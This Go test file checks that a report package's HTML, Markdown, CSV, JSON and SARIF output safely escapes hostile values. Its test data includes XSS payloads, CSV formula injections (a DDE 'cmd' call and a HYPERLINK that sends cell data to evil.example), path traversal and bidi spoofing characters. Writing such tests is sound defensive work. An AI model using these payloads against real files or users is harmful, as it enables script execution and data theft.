package report_test

import (
	"encoding/csv"
	"encoding/json"
	"regexp"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/net/html"

	"github.com/nhi-governance/terraform-provider-governed/internal/inventory/report"
)

// hostile are names and tags that mean to be more than text, with what a reader has to see of them.
var hostile = map[string]struct{ text, seen string }{
	"script":          {`<script>alert(1)</script>`, `<script>alert(1)</script>`},
	"end of script":   {`</script></style></title><svg onload=alert(1)>`, `</script></style></title><svg onload=alert(1)>`},
	"attribute":       {`" onmouseover="alert(1)" x='`, `" onmouseover="alert(1)" x='`},
	"comment":         {`--><!--<img src=x onerror=alert(1)>`, `--><!--<img src=x onerror=alert(1)>`},
	"entity":          {`&lt;b&gt;&#60;script&#62;`, `&lt;b&gt;&#60;script&#62;`},
	"template":        {"{{.}}${alert(1)}`", "{{.}}${alert(1)}`"},
	"formula":         {`=HYPERLINK("http://evil.example?"&A1,"open")`, `=HYPERLINK("http://evil.example?"&A1,"open")`},
	"plus":            {`+1+cmd|' /C calc'!A0`, `+1+cmd|' /C calc'!A0`},
	"minus":           {`-2+3`, `-2+3`},
	"at":              {`@SUM(1)`, `@SUM(1)`},
	"wide formula":    {`＝1+1`, `＝1+1`},
	"tab":             {"\t=1+1", "⟨U+0009⟩=1+1"},
	"carriage return": {"\r=1+1", "⟨U+000D⟩=1+1"},
	"semicolon":       {`a; "=1+1`, `a; "=1+1`},
	"cell":            {"a\",\"=1+1\n=2+2", "a\",\"=1+1⟨U+000A⟩=2+2"},
	"pipe":            {`a | b \| c`, `a | b \| c`},
	"backticks":       {"`` `x` ```js", "`` `x` ```js"},
	"link":            {`[pay](https://evil.example) https://evil.example www.evil.example`, `[pay](https://evil.example) https://evil.example www.evil.example`},
	"image":           {`![x](https://evil.example/x.png "t")`, `![x](https://evil.example/x.png "t")`},
	"mention":         {`@octocat fixes #1 ~~x~~ **y** _z_`, `@octocat fixes #1 ~~x~~ **y** _z_`},
	"block":           {"x\n\n# Title\n\n```\n", "x⟨U+000A⟩⟨U+000A⟩# Title⟨U+000A⟩⟨U+000A⟩```⟨U+000A⟩"},
	"placeholder":     {`{0} {x} \[`, `{0} {x} \[`},
	"bidi":            {"admin\u202enimda\u2066\u200f", "admin⟨U+202E⟩nimda⟨U+2066⟩⟨U+200F⟩"},
	"zero width":      {"pay\u200bments\ufeff\U000E0041", "pay⟨U+200B⟩ments⟨U+FEFF⟩⟨U+E0041⟩"},
	"controls":        {"\x00\x1b[31mred\x7f\u0085\u2028", "⟨U+0000⟩⟨U+001B⟩[31mred⟨U+007F⟩⟨U+0085⟩⟨U+2028⟩"},
	"rule":            {`--- ***`, `--- ***`},
	"list":            {`1. - x`, `1. - x`},
	"dots":            {`../../etc/passwd`, `../../etc/passwd`},
	"long":            {strings.Repeat("M", 5000), strings.Repeat("M", 5000)},
}

// everywhere puts a text into all fields.
func everywhere(text string) []report.Identity {
	one, list := report.Text(text), []string{text, text}
	return []report.Identity{{
		ID: one, Name: one, Platform: one, Kind: one, Category: one, Account: one, Owner: one, Purpose: one, Expiry: one, Environment: one, Ticket: one,
		Systems: list, Labels: map[string]string{text: text}, ManagedBy: one,
		Trust:        []report.Trustee{{Kind: one, Name: one, Account: one, Organization: one, Subjects: list, Audiences: list}},
		Credentials:  []report.Credential{{Kind: one, ID: one, Active: true, CreatedAt: one, ExpiresAt: one, LastUsedAt: one, LastUsedService: one, LastUsedRegion: one, Store: one}},
		UnusedAccess: []report.UnusedAccess{{Kind: one, Watcher: one, AnalyzedAt: one}}, Classes: list, Privileges: list, CreatedAt: one, LastUsedAt: one, LastUsedService: one, LastUsedRegion: one, ImportID: one,
		Findings: []report.Finding{{Code: one, Severity: one, OWASP: one, Message: one, Remedy: one}},
	}}
}

func TestHostile(t *testing.T) {
	t.Parallel()
	for name, of := range hostile {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			identities, gaps := everywhere(of.text), []string{of.text}
			checkHTML(t, renderWith(t, identities, gaps, report.HTML), of.seen)
			checkMarkdown(t, renderWith(t, identities, gaps, report.Markdown))
			checkCSV(t, renderWith(t, identities, gaps, report.CSV))
			checkJSON(t, renderWith(t, identities, gaps, report.JSON), report.Inventory{Identities: identities, Gaps: gaps})
			checkSARIF(t, renderWith(t, identities, gaps, report.SARIF), of.seen)
		})
	}
}

func wantNothingHidden(t *testing.T, format, text string) {
	t.Helper()
	if at := strings.IndexFunc(text, func(r rune) bool { return r != '\n' && !unicode.IsGraphic(r) }); at >= 0 {
		t.Errorf("%s has a hidden character: %q", format, text[max(0, at-20):min(len(text), at+20)])
	}
}

// checkHTML wants the elements and attributes of a harmless page, and the text as it is seen.
func checkHTML(t *testing.T, page, seen string) {
	t.Helper()
	wantNothingHidden(t, "the page", page)
	skeleton := func(page string) (elementsAndAttributes []string, texts string) {
		elements(t, page, func(node *html.Node) {
			line := node.Data
			for _, attribute := range node.Attr {
				line += " " + attribute.Key + "=" + attribute.Val
			}
			elementsAndAttributes = append(elementsAndAttributes, line)
			for child := range node.ChildNodes() {
				if child.Type == html.TextNode && node.Data != "script" && node.Data != "style" {
					texts += child.Data + "\n"
				}
			}
		})
		return elementsAndAttributes, texts
	}
	harmless, _ := skeleton(renderWith(t, everywhere("x"), []string{"x"}, report.HTML))
	got, texts := skeleton(page)
	if _, after, _ := strings.Cut(texts, "Not everything could be read\n"); !strings.Contains(after[:min(len(after), len(seen)+200)], seen) {
		t.Error("the gap is not seen above")
	}
	if diff := cmp.Diff(harmless, got); diff != "" {
		t.Errorf("the page's elements differ from those of a harmless one:\n%s", diff)
	}
	if count := strings.Count(texts, seen); count < 15 {
		t.Errorf("the text is seen %d times", count)
	}
}

var codeSpan = regexp.MustCompile("(`+ [^|]*? `+|`[^`|]+`)")

// checkMarkdown wants the lines and cells of a harmless report, and outside of code nothing that could be markup.
func checkMarkdown(t *testing.T, text string) {
	t.Helper()
	wantNothingHidden(t, "Markdown", text)
	lines, harmless := strings.Split(text, "\n"), strings.Split(renderWith(t, everywhere("x"), []string{"x"}, report.Markdown), "\n")
	if len(lines) != len(harmless) {
		t.Fatalf("there are %d lines and not %d:\n%s", len(lines), len(harmless), text)
	}
	for i, line := range lines {
		if strings.Count(line, "|") != strings.Count(harmless[i], "|") {
			t.Errorf("a row has other cells: %s", line)
		}
		gap, listed := strings.CutPrefix(line, "- ")
		if first, _ := utf8.DecodeRuneInString(gap); listed && first != '`' && !unicode.IsLetter(first) {
			t.Errorf("a gap can begin a list or a line: %s", line)
		}
		if !listed && !strings.HasPrefix(line, "| ") || strings.HasPrefix(line, "| Severity") {
			continue
		}
		rest := strings.ReplaceAll(codeSpan.ReplaceAllString(line, ""), "**unrated**", "")
		if strings.ContainsAny(rest, "<>&[]!#@*_~`\\$") || strings.Contains(rest, "://") || strings.Contains(rest, "www.") {
			t.Errorf("there is markup outside of code: %s", rest)
		}
	}
}

// checkCSV wants one row of which no cell, nor any part of it behind a semicolon, begins a formula.
func checkCSV(t *testing.T, text string) {
	t.Helper()
	wantNothingHidden(t, "CSV", text)
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("the rows are %q, %v", rows, err)
	}
	for _, cell := range rows[1] {
		for _, part := range strings.Split(cell, ";") {
			part = strings.TrimLeft(part, ` "`)
			if part != "" && strings.ContainsAny(part[:1], "=+-@\t\r") || strings.HasPrefix(part, "＝") {
				t.Errorf("the cell %q is a formula", cell)
			}
		}
	}
}

// checkJSON wants back what went in.
func checkJSON(t *testing.T, text string, want report.Inventory) {
	t.Helper()
	wantNothingHidden(t, "JSON", text)
	var got report.Inventory
	if err := json.Unmarshal([]byte(text), &got); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("JSON does not bring back what went in:\n%s", diff)
	}
	if strings.ContainsAny(text, "<>&") {
		t.Error("JSON has what HTML could take for markup")
	}
}

var (
	unescaped = strings.NewReplacer(`\\`, `\`, `\[`, `[`, `\]`, `]`, "{{", "{", "}}", "}")
	relative  = regexp.MustCompile(`^identities(/[A-Za-z0-9%._~$&+=:@-]+)*$`)
)

// checkSARIF wants messages without links and placeholders, and a path that stays below its folder.
func checkSARIF(t *testing.T, text, seen string) {
	t.Helper()
	wantNothingHidden(t, "SARIF", text)
	var log sarifLog
	if err := json.Unmarshal([]byte(text), &log); err != nil {
		t.Fatal(err)
	}
	result, notification := log.Runs[0].Results[0], log.Runs[0].Invocations[0].ToolExecutionNotifications[0]
	for message, want := range map[string]string{result.Message.Text: seen + ": " + seen, notification.Message.Text: seen} {
		if got := unescaped.Replace(message); got != want {
			t.Errorf("the message is %q", got)
		}
		if regexp.MustCompile(`(^|[^\\])(\\\\)*\[`).MatchString(message) || regexp.MustCompile(`(^|[^{]){(\{\{)*[^{]`).MatchString(message) {
			t.Errorf("the message %q has a link or a placeholder", message)
		}
	}
	uri := result.Locations[0].PhysicalLocation.ArtifactLocation.URI
	if !relative.MatchString(uri) || strings.Contains(uri, "..") {
		t.Errorf("the path is %s", uri)
	}
}
